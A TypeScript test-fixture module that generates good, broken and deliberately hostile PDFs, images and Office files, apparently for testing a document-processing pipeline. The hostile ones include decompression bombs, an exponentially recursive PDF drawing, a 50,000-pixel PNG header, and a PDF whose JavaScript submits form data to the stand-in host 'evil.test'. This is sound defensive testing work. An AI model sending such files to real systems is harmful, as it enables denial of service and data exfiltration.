import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import sharp from 'sharp';

/** Files for tests, made here: good ones, broken ones, and such as somebody makes to do harm. */

const bytes = (text: string): Uint8Array => Uint8Array.from(Buffer.from(text, 'latin1'));

interface PdfShape {
  /** What each page says, in ASCII; empty: a page without words. */
  readonly pages?: readonly string[];
  readonly size?: readonly [width: number, height: number];
  readonly rotate?: number;
  /** More of the catalogue, and of the trailer. */
  readonly catalogue?: string;
  readonly trailer?: string;
  /** The page's font. */
  readonly font?: string;
}

/** A whole PDF with a right table of offsets. */
export function pdf(shape: PdfShape = {}): Uint8Array {
  const { pages = ['Hello'], size = [595, 842], rotate = 0, catalogue = '', trailer = '' } = shape;
  const font = shape.font ?? '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
  const first = 4;
  const kids = pages.map((_, at) => `${first + at * 2} 0 R`).join(' ');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`,
    font,
    ...pages.flatMap((text, at) => {
      const words = text.startsWith('<') ? text : `(${text})`;
      const drawn = text === '' ? '0 0 1 rg 100 100 200 200 re f' : `BT /F1 24 Tf 72 700 Td ${words} Tj ET`;
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${size.join(' ')}] /Rotate ${rotate} /Contents ${first + at * 2 + 1} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
        `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
      ];
    }),
  ];
  return bytesOfPdf(objects, trailer);
}

/** Objects numbered from 1, the first being the catalogue. */
function bytesOfPdf(objects: readonly string[], trailer = ''): Uint8Array {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, at) => {
    const offset = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  return bytes(
    `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}` +
      `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${text.length}\n%%EOF\n`,
  );
}

/** One page that draws one object, which is the sixth; what that needs follows it. */
const pdfDrawing = (...more: readonly string[]): Uint8Array => {
  const drawn = 'q 500 0 0 500 50 50 cm /X Do Q';
  return bytesOfPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 6 0 R >> >> >>',
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...more,
  ]);
};

const stream = (head: string, data: string): string =>
  `<< ${head} /Length ${data.length} >>\nstream\n${data}\nendstream`;

/** A page as wide as a field, which a reader that believes it draws pixel by pixel. */
export const pdfOfGiantPage = (): Uint8Array => pdf({ size: [14_400_000, 14_400_000] });

/** A few kilobytes that unfold to a picture of `side` × `side` pixels. */
export const pdfOfHugePicture = (side: number): Uint8Array => {
  const rows = deflateSync(Buffer.alloc(side * side), { level: 9 });
  const head = `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode`;
  return pdfDrawing(stream(head, rows.toString('latin1')));
};

/** Each drawing draws the next ten times: ten to the power of `depth`. */
export const pdfWithoutEnd = (depth = 12): Uint8Array =>
  pdfDrawing(
    ...Array.from({ length: depth }, (_, at) => {
      const isLast = at === depth - 1;
      const drawn = isLast ? '0 0 1 rg 0 0 1 1 re f' : '/X Do '.repeat(10);
      const inner = isLast ? '' : `/XObject << /X ${at + 7} 0 R >>`;
      return stream(`/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << ${inner} >>`, drawn);
    }),
  );

const SECRET = '5a'.repeat(32);
/** Asks for a password that nobody knows. */
export const lockedPdf = (): Uint8Array =>
  pdf({
    trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${SECRET}> /U <${SECRET}> /P -44 >> /ID [<00> <00>]`,
  });

export const pdfWithScript = (): Uint8Array =>
  pdf({
    catalogue:
      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://evil.test"\\)) >>',
  });

/** Names a Chinese font and does not bring it along; 低保 as glyphs of the font, 你好 by its map. */
export const pdfWithoutFont = (): Uint8Array =>
  pdf({
    pages: ['<4E2D6587>'],
    font: '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /FontDescriptor << /Type /FontDescriptor /FontName /STSong-Light /Flags 4 /FontBBox [-25 -254 1000 880] /ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 880 /StemV 93 >> >>] >>',
  });

export const photo = (width = 40, height = 20): Promise<Uint8Array> =>
  sharp({ create: { width, height, channels: 3, background: '#c03030' } })
    .jpeg()
    .withExif({
      IFD0: { Copyright: 'secret-owner' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '45/1 50/1 0/1' },
    })
    // Held upright: the picture lies on its side.
    .withMetadata({ orientation: 6 })
    .toBuffer()
    .then((made) => new Uint8Array(made));

export const png = (width = 40, height = 20): Promise<Uint8Array> =>
  sharp({ create: { width, height, channels: 4, background: '#3030c0' } })
    .png()
    .toBuffer()
    .then((made) => new Uint8Array(made));

const CRC = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let bit = 0; bit < 8; bit += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc = (data: Buffer): number => {
  let c = 0xffffffff;
  for (const byte of data) c = (CRC[(c ^ byte) & 255] as number) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
};
function chunk(name: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(name, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc(body));
  return Buffer.concat([length, body, sum]);
}

/** A few bytes that say to be 50,000 × 50,000 pixels. */
export function hugePng(side = 50_000): Uint8Array {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head[8] = 1;
  return new Uint8Array(
    Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      chunk('IHDR', head),
      chunk('IDAT', deflateSync(Buffer.alloc(10_000))),
      chunk('IEND', Buffer.alloc(0)),
    ]),
  );
}

const OPEN = 'application/vnd.openxmlformats-officedocument.';
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const SHEET = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

interface OfficeShape {
  readonly type?: string;
  readonly text?: string;
  readonly more?: Readonly<Record<string, Uint8Array>>;
}

/** A Word file of one paragraph, or something else that calls itself so. */
export function docx({ type, text = '低保公示名单', more = {} }: OfficeShape = {}): Uint8Array {
  const main = type ?? `${OPEN}wordprocessingml.document.main+xml`;
  return zipSync({
    '[Content_Types].xml': strToU8(
      `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
    ),
    '_rels/.rels': strToU8(
      `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${RELATION}/officeDocument" Target="word/document.xml"/></Relationships>`,
    ),
    'word/document.xml': strToU8(
      `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
    ),
    ...more,
  });
}

/** An Excel file of one row. */
export function xlsx(row: readonly string[]): Uint8Array {
  const cells = row.map((text) => `<c t="inlineStr"><is><t>${text}</t></is></c>`).join('');
  const [sheets, types] = [`${OPEN}spreadsheetml.`, 'http://schemas.openxmlformats.org/package/2006/'];
  return zip({
    '[Content_Types].xml': `${XML}<Types xmlns="${types}content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${sheets}sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${sheets}worksheet+xml"/></Types>`,
    '_rels/.rels': `${XML}<Relationships xmlns="${types}relationships"><Relationship Id="rId1" Type="${RELATION}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/_rels/workbook.xml.rels': `${XML}<Relationships xmlns="${types}relationships"><Relationship Id="rId1" Type="${RELATION}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    'xl/workbook.xml': `${XML}<workbook xmlns="${SHEET}" xmlns:r="${RELATION}"><sheets><sheet name="名单" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/worksheets/sheet1.xml': `${XML}<worksheet xmlns="${SHEET}"><sheetData><row r="1">${cells}</row></sheetData></worksheet>`,
  });
}

export const bombDocx = (): Uint8Array => docx({ more: { 'word/media/a.bin': new Uint8Array(60_000_000) } });

/** The old formats: only their mark and the names in them. */
export const oldFile = (name: string): Uint8Array =>
  new Uint8Array(
    Buffer.concat([
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      Buffer.alloc(600),
      Buffer.from(name, 'utf16le'),
      Buffer.alloc(600),
    ]),
  );

export const zip = (parts: Readonly<Record<string, string>>): Uint8Array =>
  zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])));

export const textFile = (text: string): Uint8Array => new Uint8Array(Buffer.from(text));
